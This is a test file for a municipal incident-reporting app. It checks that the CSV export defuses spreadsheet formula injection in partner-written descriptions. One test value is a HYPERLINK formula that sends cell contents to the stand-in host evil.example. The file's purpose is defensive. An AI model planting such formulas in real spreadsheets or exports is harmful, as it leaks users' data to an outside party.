import type { FastifyInstance } from 'fastify';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { describeEachDialect } from '../../../test/support/databases.js';
import { makeUser, testDeps } from '../../../test/support/factories.js';
import { buildTestApp, TestClient } from '../../../test/support/http.js';
import { seedHuddinge } from '../../../test/support/huddinge.js';
import { reportIncidents } from '../../domain/incidents/report-incidents.js';

const hostileDescriptions = [
  '=HYPERLINK("http://evil.example/?leak="&A2,"klick")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
];

describeEachDialect('exporting incidents a partner wrote formulas into', (database) => {
  let app: FastifyInstance;
  let analyst: TestClient;

  beforeAll(async () => {
    const deps = testDeps(database());
    const huddinge = await seedHuddinge(deps);
    const partner = await huddinge.actor('housing', ['reporter']);
    await reportIncidents(deps, partner, {
      events: hostileDescriptions.map((description, index) => ({
        point: { longitude: 18.15 + index / 1000, latitude: 59.21 },
        occurredAt: `2026-11-2${index}T20:30:00Z`,
        categoryCode: 'graffiti',
        description,
      })),
    });
    app = await buildTestApp(deps);
    analyst = await new TestClient(app).signIn(
      (await makeUser(deps, huddinge.organisations.administration, ['analyst'])).email,
    );
  });
  afterAll(() => app.close());

  it('gives CSV in which no partner description starts a formula, and numbers stay numbers', async () => {
    const response = await analyst.get('/api/incidents/export?format=csv');
    expect(response.statusCode).toBe(200);
    const [header = [], ...rows] = parse(response.body, {
      delimiter: ';',
      bom: true,
      relax_quotes: true,
    }) as string[][];
    const descriptionAt = header.indexOf('beskrivning');
    const longitudeAt = header.indexOf('longitud');
    const descriptions = rows.map((row) => row[descriptionAt] ?? '').sort();
    expect(descriptions).toEqual(hostileDescriptions.map((text) => `'${text}`).sort());
    for (const row of rows) expect(row[longitudeAt]).toMatch(/^18,15\d*$/);
  });
});
